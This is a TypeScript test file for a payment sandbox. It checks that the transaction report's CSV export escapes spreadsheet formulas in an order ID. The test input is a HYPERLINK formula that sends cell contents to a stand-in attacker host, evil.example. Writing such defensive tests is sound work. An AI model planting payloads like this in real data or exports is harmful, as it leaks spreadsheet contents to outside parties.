import { createGateway } from "@card-processing/client";
import { createOAuthSigner } from "@card-processing/signing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Sandbox, startSandbox } from "../index.js";
import { dataOf, paymentBody } from "./sandbox-fixture.testlib.js";

let sandbox: Sandbox;
beforeAll(async () => {
  sandbox = await startSandbox({ latencyMs: 0, settleDelayMs: Infinity });
});
afterAll(() => sandbox.close());

/** The report's CSV as the gateway sends it, for the last minute. */
async function reportCsv(): Promise<string> {
  const now = new Date();
  const day = (d: Date) => d.toISOString().slice(0, 19).replace("T", " ");
  const query = new URLSearchParams({
    createdFromDate: day(new Date(now.getTime() - 60_000)),
    createdToDate: day(new Date(now.getTime() + 1_000)),
  });
  const url = `${sandbox.url.replace(/\/paynet$/, "/paynet-ui")}/services/transaction-report?${query}`;
  const signer = createOAuthSigner({
    scheme: "oauth-hmac-sha1",
    consumerKey: sandbox.login,
    controlKey: sandbox.controlKey,
  });
  const { authorization } = await signer.sign({ method: "GET", url, body: new URLSearchParams() });
  const response = await fetch(url, { headers: { authorization } });
  expect(response.status).toBe(200);
  return response.text();
}

describe("the transactions report's CSV", () => {
  it("makes a client_orderid that is a spreadsheet formula text, with a leading quote", async () => {
    const gateway = createGateway({
      baseUrl: sandbox.url,
      endpointId: sandbox.endpointId,
      login: sandbox.login,
      controlKey: sandbox.controlKey,
    });
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const sale = dataOf(await gateway.sale(paymentBody(formula, "4111111111111111", "10.00")));
    const csv = await reportCsv();
    const line = csv.split("\r\n").find((l) => l.includes(String(sale["paynet-order-id"])));
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(line).not.toMatch(/,"?=HYPERLINK/);
    // The amount stays a number.
    expect(line).toContain(",10.00,USD");
  });
});
